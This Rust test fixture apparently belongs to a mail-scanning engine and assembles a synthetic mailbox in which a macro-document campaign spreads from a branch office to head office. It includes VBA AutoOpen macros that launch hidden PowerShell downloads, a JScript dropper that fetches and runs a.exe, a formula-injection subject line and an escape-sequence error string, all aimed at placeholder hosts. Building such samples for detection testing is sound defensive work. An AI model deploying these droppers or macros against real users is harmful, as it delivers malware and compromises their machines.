//! Half a year of mail in small: an attack that moves from a branch to head office, and ordinary mail around it.

use std::io::Cursor;
use std::path::Path;
use std::sync::Arc;

use sekisho::batch::{Artifacts, Item, Keep, Malicious, PartWriter, ShardId, finish};
use sekisho::engine::{Engine, Worker};
use sekisho::knowledge::Language;
use sekisho::model::Report;

use crate::bench::{engine, scan};
use crate::build::{Part, attachment, docm, module, program};

/// Everything that a batch may keep.
pub(crate) const EVERYTHING: Keep = Keep {
    artifacts: Artifacts::Kept,
    malicious: Malicious::Extracted,
};

/// A mail of the given people.
pub(crate) fn mail(
    number: usize,
    from: &str,
    to: &str,
    date: &str,
    subject: &str,
    parts: &[Part<'_>],
) -> Vec<u8> {
    let date = if date.is_empty() {
        String::new()
    } else {
        format!("Date: {date}\r\n")
    };
    let head = format!(
        "From: {from}\r\nTo: {to}\r\nSubject: {subject}\r\n{date}Message-ID: <{number}@mail.example>\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"=_sekisho\"\r\n\r\n"
    );
    let mut out = head.into_bytes();
    for part in parts {
        out.extend_from_slice(b"--=_sekisho\r\n");
        out.extend_from_slice(part.headers.replace('\n', "\r\n").as_bytes());
        out.extend_from_slice(b"\r\n\r\n");
        out.extend_from_slice(&part.body);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"--=_sekisho--\r\n");
    out
}

/// A document whose macro is made anew for every victim: other names, other address, other numbers.
pub(crate) fn kit(number: usize, host: &str) -> Vec<u8> {
    let [a, b, c] = ["Text", "Thing", "Count"].map(|name| format!("{name}{}", number * 7919));
    let code = format!(
        "Sub AutoOpen()\n    ' copy {number}\n    Dim {a} As String\n    \
         {a} = \"powershell -w hidden -c \"\"iwr http://{host}/{number}.bin -OutFile a.bin\"\"\"\n    \
         Dim {b} As Object\n    Set {b} = CreateObject(\"WScript.Shell\")\n    {b}.Run {a}, 0\n    \
         Dim {c} As Integer\n    For {c} = 1 To {number}\n        \
         If Dir(\"C:\\Users\\Public\\{number}.bin\") <> \"\" Then Exit For\n        DoEvents\n    Next\n    \
         Set {b} = Nothing\n    Application.DisplayAlerts = False\n    ActiveDocument.Saved = True\nEnd Sub\n"
    );
    docm(
        "Please enable the content.",
        &[("Module1", module("Module1", &code))],
    )
}

/// A script that fetches and runs, with another address in each copy.
fn script(copy: usize) -> Vec<u8> {
    let lines = (1..50_u32).map(|n| {
        format!(
            "var v{n} = pick({}, \"part{}\");\r\n",
            n * n * 31 % 9973,
            n % 13
        )
    });
    let body: String = lines.collect();
    format!(
        "{body}var o = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\no.open(\"GET\", \"http://192.0.2.{copy}/a.exe\", false);\r\n\
         o.send();\r\nvar s = new ActiveXObject(\"WScript.Shell\");\r\ns.Run(\"cmd /c start a.exe\", 0);\r\n"
    )
    .into_bytes()
}

/// A form with a macro that adds up: harmless, and in everybody's mail.
fn form() -> Vec<u8> {
    let lines = (1..12)
        .map(|n| format!("    total = total + ThisDocument.Tables(1).Cell({n}, 2).Range.Text\n"));
    let code = format!(
        "Sub AddUp_Click()\n    Dim total As Currency\n{}    MsgBox total\nEnd Sub\n",
        lines.collect::<String>()
    );
    docm("Expenses", &[("Form", module("Form", &code))])
}

fn logo() -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    let picture = image::RgbImage::from_fn(64, 64, |x, y| {
        image::Rgb([x.to_le_bytes()[0], y.to_le_bytes()[0], 120])
    });
    picture.write_to(&mut out, image::ImageFormat::Png).unwrap();
    out.into_inner()
}

const DOCM: &str = "Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\
    Content-Disposition: attachment; filename=\"";

fn named(name: &str) -> String {
    format!("{DOCM}{name}\"")
}

fn text(body: &str) -> Part<'static> {
    Part {
        headers: "Content-Type: text/plain; charset=utf-8",
        body: body.as_bytes().to_vec(),
    }
}

/// Sender, recipients, date, subject, name and bytes of the attachment.
type Attack<'a> = (&'a str, String, &'a str, &'a str, &'a str, Vec<u8>);

/// The attack: from a branch to another one, and to head office.
fn attack() -> [Attack<'static>; 5] {
    let (hq, osaka, nagoya) = ("hq.example.co.jp", "osaka.example", "nagoya.example");
    let last = kit(5, "198.51.100.9");
    [
        (
            "recruiter@jobs.example",
            format!("suzuki@{osaka}"),
            "02 Mar 2026 09:12:00 +0900",
            "Your next position",
            "offer.docm",
            kit(1, "192.0.2.9"),
        ),
        (
            "suzuki@osaka.example",
            format!("tanaka@{osaka}, kato@{osaka}"),
            "14 Apr 2026 11:40:00 +0900",
            "Shipping list",
            "list.docm",
            kit(2, "192.0.2.77"),
        ),
        (
            "tanaka@osaka.example",
            format!("sato@{nagoya}"),
            "30 Jun 2026 08:05:00 +0900",
            "Re: Shipping list",
            "list2.docm",
            kit(3, "203.0.113.5"),
        ),
        (
            "sato@nagoya.example",
            format!("hanako@{hq}"),
            "25 Aug 2026 17:30:00 +0900",
            "=HYPERLINK(\"http://192.0.2.1\",\"Budget\")",
            "budget.docm",
            last.clone(),
        ),
        (
            "sato@nagoya.example",
            format!("director@{hq}"),
            "01 Sep 2026 07:55:00 +0900",
            "=?utf-8?B?5LqI566X5qGI?=",
            "=?utf-8?B?5LqI566X5qGILmRvY20=?=",
            last,
        ),
    ]
}

/// The messages in the order of the mailbox, with the words that the page, questions and filters are tried by.
pub(crate) fn messages() -> Vec<Vec<u8>> {
    let footer = "Regards\r\n-- \r\nAll mail of this company is scanned for your safety and ours.";
    let (logo, form) = (logo(), form());
    let picture = "Content-Type: image/png\nContent-Transfer-Encoding: base64\nContent-Disposition: inline; filename=\"logo.png\"";
    let mut mails: Vec<Vec<u8>> = Vec::new();
    let mut add = |from: &str, to: &str, date: &str, subject: &str, parts: &[Part<'_>]| {
        let number = mails.len() + 1;
        mails.push(mail(number, from, to, date, subject, parts));
    };
    let attached = |name: &str, data: &[u8]| {
        let headers: &'static str = Box::leak(named(name).into_boxed_str());
        attachment(headers, data)
    };
    let (hq, osaka) = ("hq.example.co.jp", "osaka.example");
    for (day, person) in [(3, "abe"), (4, "ito"), (5, "ueda"), (6, "endo")] {
        let to = format!("{person}@{hq}");
        let date = format!("0{day} Feb 2026 10:00:00 +0900");
        add(
            &format!("office@{hq}"),
            &to,
            &date,
            "Minutes",
            &[text(footer), attachment(picture, &logo)],
        );
    }
    for (day, person) in [(9, "abe"), (10, "ito"), (11, "ueda")] {
        let date = format!("{day} Feb 2026 18:00:00 +0900");
        add(
            &format!("{person}@{hq}"),
            &format!("accounts@{hq}"),
            &date,
            "Expenses",
            &[text(footer), attached("expenses.docm", &form)],
        );
    }
    for (from, to, date, subject, name, data) in &attack() {
        add(
            from,
            to,
            date,
            subject,
            &[text("See the attached file."), attached(name, data)],
        );
    }
    for (copy, to) in [(9, format!("abe@{hq}")), (77, format!("kato@{osaka}"))] {
        let date = format!(
            "{} May 2026 12:00:00 +0000",
            copy % 10 + if copy > 9 { 10 } else { 1 }
        );
        add(
            "billing@parcel.example",
            &to,
            &date,
            "<b>Parcel</b>",
            &[text("Track it."), attached("track.js", &script(copy))],
        );
    }
    add(
        "friend@mail.example",
        &format!("ito@{hq}"),
        "20 Jul 2026 12:00:00 +0900",
        "Holiday photo",
        &[text("!"), attached("photo.jpg", &program())],
    );
    add(
        &format!("office@{hq}"),
        &format!("endo@{hq}"),
        "",
        "No date",
        &[text(footer), attachment(picture, &logo)],
    );
    mails
}

/// Numbers in the mailbox, from 1, of the messages of the attack, and of its scripts.
pub(crate) const ATTACK: std::ops::RangeInclusive<usize> = 8..=12;
pub(crate) const SCRIPTS: std::ops::RangeInclusive<usize> = 13..=14;

/// The reference of a message.
pub(crate) fn reference(number: usize) -> String {
    format!("export.mbox#{number}")
}

/// Scans all messages and writes a shard each for those of the given numbers.
pub(crate) fn write(
    engine: &Arc<Engine>,
    output: &Path,
    shards: &[(u64, std::ops::Range<usize>)],
    keep: Keep,
) -> Vec<Report> {
    let mut worker = Worker::new(engine);
    let mails = messages();
    let mut reports = Vec::new();
    for (shard, numbers) in shards {
        let mut part = PartWriter::create(engine, output, &ShardId::new(*shard), keep).unwrap();
        for number in numbers.clone() {
            let Some(data) = number.checked_sub(1).and_then(|at| mails.get(at)) else {
                continue;
            };
            let item = Item {
                source: "export.mbox".to_owned(),
                reference: reference(number),
                data: data.clone().into(),
            };
            let report = scan(&mut worker, &item.reference, data.clone());
            part.push(&item, &report).unwrap();
            reports.push(report);
        }
        if *shard == 1 {
            part.error("export.mbox#99", "no such \u{1b}[2J message")
                .unwrap();
        }
        part.finish().unwrap();
    }
    reports
}

/// The whole of it in two shards, with what is made of them.
pub(crate) fn batch(output: &Path, keep: Keep) -> Vec<Report> {
    let engine = Arc::new(engine());
    let reports = write(&engine, output, &[(0, 1..9), (1, 9..99)], keep);
    finish(output, &engine.knowledge, Language::English).unwrap();
    reports
}
